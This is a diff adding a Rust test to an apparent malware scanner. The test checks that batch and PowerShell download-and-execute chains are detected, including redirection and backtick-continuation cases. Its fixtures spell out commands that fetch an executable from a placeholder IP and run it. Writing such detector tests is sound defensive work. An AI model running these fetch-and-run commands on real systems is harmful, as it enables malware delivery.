@@ -557,3 +557,53 @@ fn config_and_history_on_the_command_model() {
     let hc = by("healthcheck");
     assert!(hc.iter().all(|f| f.severity <= Severity::Low), "{hc:#?}");
 }
+
+/// What a redirection or a line continuation means is part of the command:
+/// batch `1>` is stdout like `>` (the saved download is run later), `2>` is
+/// not; a PowerShell command continued with backticks is one command.
+#[test]
+fn redirections_and_continuations_belong_to_the_command() {
+    let s = scan_files(&[
+        (
+            "opt/one.bat",
+            "@echo off\r\ncurl http://203.0.113.5/x 1> C:\\t\\x.exe\r\nstart C:\\t\\x.exe\r\n",
+        ),
+        (
+            "opt/two.bat",
+            "@echo off\r\ncurl http://203.0.113.5/x 2> C:\\t\\x.exe\r\nstart C:\\t\\x.exe\r\n",
+        ),
+        (
+            "opt/get.ps1",
+            "Invoke-WebRequest `\n  -Uri http://203.0.113.5/x.exe `\n  -OutFile C:\\x.exe\n",
+        ),
+    ]);
+    let chain = |p: &str| {
+        findings_at(&s, p)
+            .iter()
+            .any(|f| f.code == stowaway::Code::DownloadExecChain)
+    };
+    assert!(
+        chain("/opt/one.bat"),
+        "{:#?}",
+        findings_at(&s, "/opt/one.bat")
+    );
+    assert!(
+        !chain("/opt/two.bat"),
+        "{:#?}",
+        findings_at(&s, "/opt/two.bat")
+    );
+    assert!(
+        findings_at(&s, "/opt/two.bat")
+            .iter()
+            .any(|f| f.code == stowaway::Code::DownloadCommand),
+        "the download itself is still found"
+    );
+    let ps = findings_at(&s, "/opt/get.ps1");
+    assert!(
+        ps.iter().any(|f| f
+            .evidence
+            .iter()
+            .any(|e| e.starts_with("rule powershell-webrequest-outfile"))),
+        "{ps:#?}"
+    );
+}
